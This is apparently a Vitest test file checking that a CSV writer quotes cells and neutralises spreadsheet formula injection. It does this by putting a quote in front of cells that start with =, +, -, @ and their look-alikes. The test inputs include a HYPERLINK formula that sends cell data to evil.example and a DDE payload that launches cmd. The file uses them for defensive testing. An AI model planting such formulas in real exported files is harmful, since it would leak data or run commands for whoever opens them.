import { describe, expect, it } from "vitest";
import { csvLine } from "./csv";

describe("a cell", () => {
  it.each([
    ["plain", '"plain"'],
    ["", '""'],
    [null, '""'],
    [12, '"12"'],
    ['say "hi", then; go\n on\ttoo', '"say ""hi"", then; go\n on\ttoo"'],
    ["a=b", '"a=b"'],
    ["3 - 2", '"3 - 2"'],
    ["=1+1", `"'=1+1"`],
    ["+1 555", `"'+1 555"`],
    ["-1", `"'-1"`],
    [-1, `"'-1"`],
    ["@SUM(A1)", `"'@SUM(A1)"`],
    ["\t=1", `"'\t=1"`],
    ["\tx", `"'\tx"`],
    ["\rx", `"'\rx"`],
    ["\nx", `"'\nx"`],
    ["  =1", `"'  =1"`],
    ["\u00A0=1", `"'\u00A0=1"`],
    ["\uFEFF=1", `"'\uFEFF=1"`],
    ['"=1', `"'""=1"`],
    ['" "\'=1', `"'"" ""'=1"`],
    ["'=1", `"''=1"`],
    ["＝1", `"'＝1"`],
    ["＋1", `"'＋1"`],
    ["－1", `"'－1"`],
    ["＠x", `"'＠x"`],
    [
      '=HYPERLINK("https://evil.example?x="&A1,"click")',
      `"'=HYPERLINK(""https://evil.example?x=""&A1,""click"")"`,
    ],
    ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
  ])("%j is written as %s", (value, written) => {
    expect(csvLine([value])).toBe(`${written}\r\n`);
  });
});

it("a line has its cells with commas between, and ends as RFC 4180 has it", () => {
  expect(csvLine(["a", 1, null])).toBe('"a","1",""\r\n');
});
